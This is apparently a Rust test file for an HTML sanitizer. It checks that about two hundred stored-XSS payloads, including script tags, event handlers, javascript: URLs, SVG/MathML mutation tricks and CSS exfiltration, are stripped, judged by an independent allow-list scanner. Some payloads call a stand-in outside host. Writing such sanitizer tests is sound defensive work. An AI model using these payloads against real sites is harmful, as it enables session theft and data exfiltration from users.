//! Payloads of the known classes of stored XSS, written for this test, and what they must not become.
//! The judge is a scanner of its own that shares nothing with the cleaner: it reads start tags the way
//! browsers do and knows a list of what may be there.

use proptest::prelude::*;

use super::CleanHtml;
use crate::text::normalise;

const ALLOWED: [(&str, &[&str]); 22] = [
    ("p", &[]),
    ("strong", &[]),
    ("em", &[]),
    ("u", &[]),
    ("h2", &[]),
    ("h3", &[]),
    ("ul", &[]),
    ("ol", &[]),
    ("li", &[]),
    ("table", &[]),
    ("thead", &[]),
    ("tbody", &[]),
    ("tr", &[]),
    ("td", &["colspan", "rowspan"]),
    ("th", &["colspan", "rowspan"]),
    ("figure", &[]),
    ("figcaption", &[]),
    ("img", &["src", "alt", "title"]),
    ("a", &["href", "title"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("hr", &[]),
];

/// Says what in the output could run or reach out, if anything.
fn danger(html: &str) -> Option<String> {
    let bytes = html.as_bytes();
    let mut at = 0;
    while let Some(found) = html[at..].find('<') {
        at += found + 1;
        let is_end = bytes.get(at) == Some(&b'/');
        let start = at + usize::from(is_end);
        let name: String = html[start..]
            .chars()
            .take_while(|c| !matches!(c, '>' | '/' | ' ' | '\t' | '\n' | '\x0c'))
            .collect();
        let Some((_, attributes)) = ALLOWED.iter().find(|(tag, _)| *tag == name) else {
            return Some(format!("element {name:?}"));
        };
        at = start + name.len();
        loop {
            let rest = html[at..].trim_start();
            at = html.len() - rest.len();
            if rest.starts_with('>') {
                break;
            }
            let (key, after) = rest.split_once("=\"").unwrap_or((rest, ""));
            if is_end || !attributes.contains(&key) {
                return Some(format!("attribute {key:?} on {name}"));
            }
            let (value, after) = after.split_once('"').unwrap_or((after, ""));
            if let Some(reason) = bad_value(key, value) {
                return Some(reason);
            }
            at = html.len() - after.len();
        }
    }
    None
}

fn bad_value(key: &str, value: &str) -> Option<String> {
    let own_file = value.strip_prefix("/files/").is_some_and(|id| {
        !id.is_empty()
            && id
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    });
    let lower = value.to_ascii_lowercase();
    let fine = match key {
        "src" => own_file,
        "href" => {
            own_file
                || ["http:", "https:", "mailto:"]
                    .iter()
                    .any(|scheme| lower.starts_with(scheme))
        }
        "colspan" | "rowspan" => value.parse::<u8>().is_ok(),
        _ => true,
    };
    (!fine).then(|| format!("{key}={value:?}"))
}

const PAYLOADS: &[&str] = &[
    // Script elements in every spelling.
    "<script>run()</script>",
    "<SCRIPT>run()</SCRIPT>",
    "<ScRiPt src=//e.cn/x></sCrIpT>",
    "<script/x>run()</script>",
    "<script\n>run()</script\n>",
    "<script\x0c>run()</script>",
    "<scr<script>ipt>run()</scr</script>ipt>",
    "<<script>run()//<</script>",
    "<script>run()",
    "<script src=data:,run()>",
    "<script type=module>import('//e.cn')</script>",
    "<script async defer src='https://e.cn/x.js'></script>",
    "</script><script>run()</script>",
    "<script\0>run()</script>",
    "%3Cscript%3Erun()%3C/script%3E<script>run()</script>",
    "＜script＞run()＜/script＞",
    "<script>/*</p>*/run()</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=run()>\">",
    "<template><script>run()</script></template>",
    // Handlers.
    "<img src=x onerror=run()>",
    "<img src=x OnErRoR=run()>",
    "<img/src=x/onerror=run()>",
    "<img src=x onerror\n=\nrun()>",
    "<img src='x'onerror='run()'>",
    "<img src=`x`onerror=run()>",
    "<img src=x onerror=&#114;un()>",
    "<img\tsrc=x\tonerror=run()>",
    "<img src=\"/files/1\" onload=\"run()\">",
    "<p onclick=run()>a</p>",
    "<p onmouseover=\"run()\" title=a>b</p>",
    "<body onload=run()>",
    "<body onpageshow=run()>",
    "<a href=/files/1 onfocus=run() autofocus>a</a>",
    "<p/onpointerenter=run()>a",
    "<table onclick=run()><tr onclick=run()><td onclick=run()>a</table>",
    "<p \"onclick=run()\">a</p>",
    "<p x=\"'\" onclick='run()'>a</p>",
    "<img src=x:gif onerror=run() \"\">",
    "<p a=1 a=2 onclick=run() onclick=x>a</p>",
    "<details open ontoggle=run()>a</details>",
    "<input autofocus onfocus=run()>",
    "<select autofocus onfocus=run()><option>a</select>",
    "<textarea autofocus onfocus=run()>a</textarea>",
    "<video src onerror=run()></video>",
    "<audio src onerror=run()></audio>",
    "<video><source onerror=run()></video>",
    "<marquee onstart=run()>a</marquee>",
    "<keygen autofocus onfocus=run()>",
    "<isindex action=javascript:run() type=image>",
    "<button onclick=run()>a</button>",
    "<custom-thing onclick=run() tabindex=1>a</custom-thing>",
    "<p style=animation-name:x onanimationend=run()>a</p>",
    "<meter onmouseover=run()>0</meter>",
    "<dialog open onclose=run()>a</dialog>",
    "<p oncontentvisibilityautostatechange=run() style=content-visibility:auto>",
    // Addresses that run.
    "<a href=javascript:run()>a</a>",
    "<a href=JaVaScRiPt:run()>a</a>",
    "<a href=' javascript:run()'>a</a>",
    "<a href='java\tscript:run()'>a</a>",
    "<a href='java\nscript:run()'>a</a>",
    "<a href='java\rscript:run()'>a</a>",
    "<a href='\x01javascript:run()'>a</a>",
    "<a href='java\x01script:run()'>a</a>",
    "<a href='&#106;avascript:run()'>a</a>",
    "<a href='&#x6a;avascript&colon;run()'>a</a>",
    "<a href='javascript&Tab;:run()'>a</a>",
    "<a href='&NewLine;javascript:run()'>a</a>",
    "<a href='\u{2028}javascript:run()'>a</a>",
    "<a href='\u{a0}javascript:run()'>a</a>",
    "<a href='\u{feff}javascript:run()'>a</a>",
    "<a href='javascript://e.cn/%0arun()'>a</a>",
    "<a href=vbscript:run()>a</a>",
    "<a href='data:text/html,<script>run()</script>'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href=blob:https://e.cn/x>a</a>",
    "<a href=file:///etc/passwd>a</a>",
    "<a href=view-source:javascript:run()>a</a>",
    "<a href=feed:javascript:run()>a</a>",
    "<a href=livescript:run()>a</a>",
    "<a href=mocha:run()>a</a>",
    "<a href=intent:x#Intent;end>a</a>",
    "<a href=//e.cn/x>a</a>",
    "<a href=\\\\e.cn\\x>a</a>",
    "<a href=/\\e.cn>a</a>",
    "<a href=/files/1/../../admin>a</a>",
    "<a href=/files/1?next=javascript:run()>a</a>",
    "<a href=/sign-out>a</a>",
    "<a href=?delete=1>a</a>",
    "<a ping=//e.cn href=https://e.cn target=_blank rel=opener download>a</a>",
    "<img src=javascript:run()>",
    "<img src='data:image/svg+xml,<svg onload=run()>'>",
    "<img dynsrc=javascript:run() lowsrc=javascript:run()>",
    "<img srcset='//e.cn/x 1x' sizes=1px>",
    "<img src=//e.cn/track.gif>",
    "<img src=x longdesc=javascript:run() usemap=#m>",
    "<a href=javascript:run() xlink:href=javascript:run()>a</a>",
    "<form action=javascript:run()><button>a</form>",
    "<button formaction=javascript:run()>a</button>",
    "<input type=image src=x formaction=javascript:run()>",
    "<map name=m><area href=javascript:run()></map>",
    "<blockquote cite=javascript:run()>a</blockquote>",
    "<table background=javascript:run()><td background=javascript:run()>a</table>",
    "<body background=javascript:run()>",
    "<q cite=javascript:run()>a</q>",
    "<del cite=javascript:run()>a</del>",
    // Frames, objects, document-wide elements.
    "<iframe src=javascript:run()></iframe>",
    "<iframe srcdoc='<script>run()</script>'></iframe>",
    "<iframe onload=run()>",
    "<frameset onload=run()><frame src=javascript:run()></frameset>",
    "<object data=javascript:run()></object>",
    "<object type=text/html data='data:text/html,<script>run()</script>'>",
    "<embed src=javascript:run()>",
    "<embed src=//e.cn/x.swf allowscriptaccess=always>",
    "<applet code=x archive=//e.cn/x.jar></applet>",
    "<portal src=//e.cn></portal>",
    "<base href=javascript:run()//>",
    "<base href=//e.cn/>",
    "<meta http-equiv=refresh content='0;url=javascript:run()'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<link rel=stylesheet href=//e.cn/x.css>",
    "<link rel=import href=//e.cn>",
    "<link rel=preload as=script href=//e.cn/x>",
    "<html manifest=//e.cn/x><p>a",
    "<xml id=x><i><b>&lt;img src=x onerror=run()&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>",
    "<layer src=//e.cn></layer>",
    "<bgsound src=javascript:run()>",
    "<fencedframe src=//e.cn></fencedframe>",
    // Styles.
    "<style>@import '//e.cn/x.css';</style>",
    "<style>p{background:url(javascript:run())}</style>",
    "<p style='background:url(javascript:run())'>a</p>",
    "<p style='width:expression(run())'>a</p>",
    "<p style='-moz-binding:url(//e.cn/x#y)'>a</p>",
    "<p style='behavior:url(x.htc)'>a</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>a</p>",
    "<style><img src=x onerror=run()></style>",
    "<style></style\n><script>run()</script>",
    "<p class=modal-backdrop id=csrf-token>a</p>",
    "<style>input[value^=a]{background:url(//e.cn/a)}</style>",
    // SVG, MathML and the mutations between them.
    "<svg onload=run()>",
    "<svg/onload=run()>",
    "<svg><script>run()</script></svg>",
    "<svg><script href=data:,run() />",
    "<svg><animate onbegin=run() attributeName=x>",
    "<svg><a xlink:href=javascript:run()><text>a</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:run() /><a id=x><text>a</text></a></svg>",
    "<svg><set attributeName=onmouseover to=run()>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:run()></foreignObject></svg>",
    "<svg><style><img src=x onerror=run()></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=run()>\">",
    "<math href=javascript:run()>a</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=run()&gt;\">",
    "<math><annotation-xml encoding=text/html><script>run()</script></annotation-xml></math>",
    "<math><annotation-xml encoding='text/html'><p><style><img src=x onerror=run()></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
    "<svg><desc><table><svg><style><!--</style><img src=x onerror=run()>-->",
    "<math><mi//xlink:href='data:x,<script>run()</script>'>",
    "<svg><title><style><img src=x onerror=run()></style></title></svg>",
    // Parsers that disagree: comments, raw text, nesting, quotes.
    "<!--><img src=x onerror=run()>-->",
    "<!--<img src=\"--><img src=x onerror=run()//\">",
    "<!-- --!><img src=x onerror=run()> -->",
    "<![CDATA[<img src=x onerror=run()>]]>",
    "<?xml <img src=x onerror=run()>?>",
    "<!x<img src=x onerror=run()>>",
    "<!--[if gte IE 4]><script>run()</script><![endif]-->",
    "<![if !vml]><img src=\"file:///C:/x.png\" onerror=run()><![endif]>",
    "<comment><img src='</comment><img src=x onerror=run()>'>",
    "<noembed><img title='</noembed><img src=x onerror=run()>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=run()>'>",
    "<title><img title='</title><img src=x onerror=run()>'></title>",
    "<textarea><img title='</textarea><img src=x onerror=run()>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=run()>'></xmp>",
    "<plaintext><img src=x onerror=run()>",
    "<p title=\"><img src=x onerror=run()>\">a</p>",
    "<a title='&quot;><img src=x onerror=run()>' href=https://e.cn>a</a>",
    "<img alt='`><script>run()</script>'>",
    "<img alt=\"<img src=x onerror=run()>\" src=/files/1>",
    "&lt;script&gt;run()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=run()&amp;gt;",
    "<p>&#60;script&#62;run()&#60;/script&#62;</p>",
    "<table><p><img src=x onerror=run()><tr><td>a",
    "<table><style><img src=x onerror=run()>",
    "<select><style></select><img src=x onerror=run()>",
    "<p><a href=https://e.cn><p><a href=javascript:run()>a",
    "<b><p onclick=run()>a</b>b</p>",
    "<em/ onclick=run()>a</em>",
    "<p\u{b}onclick=run()>a</p>",
    "<p//onclick=run()>a</p>",
    "<a\x00href=javascript:run()>a</a>",
    "<a href\x0c=\x0cjavascript:run()>a</a>",
    "<br onerror=run() / src=x>",
    "<hr size=1 onclick=run()>",
    "<li onclick=run()>a",
    "</p onclick=run()>",
    "</br onclick=run()>",
    "<image src=x onerror=run()>",
    "<p dir=rtl contenteditable accesskey=x onclick=run()>a</p>",
    "+ADw-script+AD4-run()+ADw-/script+AD4-",
    "<o:p onclick=run()>a</o:p>",
    "<v:shape onclick=run()><v:imagedata src=javascript:run() /></v:shape>",
    "<p is=x-y slot=z part=q itemprop=w>a</p>",
    "<p hx-get=//e.cn hx-trigger=load data-hx-get=//e.cn data-bs-toggle=x>a</p>",
    "<slot onslotchange=run()></slot>",
];

#[test]
fn no_payload_keeps_anything_that_can_run() {
    assert!(PAYLOADS.len() >= 120, "{}", PAYLOADS.len());
    for payload in PAYLOADS {
        for around in [
            "{}",
            "<p>{}</p>",
            "<p title=\"{}\">a</p>",
            "<table><tr><td>{}",
            "<a href='{}'>a</a>",
            "<h1>{}<h2>",
            "甲{}乙",
        ] {
            let html = around.replace("{}", payload);
            let clean = CleanHtml::clean(&html);
            assert_eq!(danger(clean.as_str()), None, "{html:?} became {clean}");
            assert_eq!(CleanHtml::clean(clean.as_str()), clean, "{html:?} is not settled");
            let normal = normalise(&html);
            assert_eq!(danger(normal.as_str()), None, "{html:?} became {normal}");
            assert_eq!(normalise(normal.as_str()), normal, "{html:?} is not normal");
        }
    }
}

#[test]
fn the_judge_sees_what_an_uncleaned_payload_does() {
    let n_seen = PAYLOADS
        .iter()
        .filter(|payload| danger(payload).is_some())
        .count();
    assert!(
        n_seen > PAYLOADS.len() * 9 / 10,
        "the judge saw {n_seen} of {}",
        PAYLOADS.len()
    );
    assert_eq!(
        danger("<p>a<a href=\"https://e.cn\" title=\"&lt;script>\">b</a><br></p>"),
        None
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn any_mixture_of_payloads_is_harmless_and_settled(
        parts in proptest::collection::vec((0..PAYLOADS.len(), 0_usize..80, 0_usize..80), 1..5)
    ) {
        let html: String = parts.iter().map(|(at, from, len)| {
            PAYLOADS[*at].chars().skip(from % 7).take(len + 10).collect::<String>()
        }).collect();
        let clean = CleanHtml::clean(&html);
        prop_assert_eq!(danger(clean.as_str()), None);
        prop_assert_eq!(CleanHtml::clean(clean.as_str()), clean);
    }
}
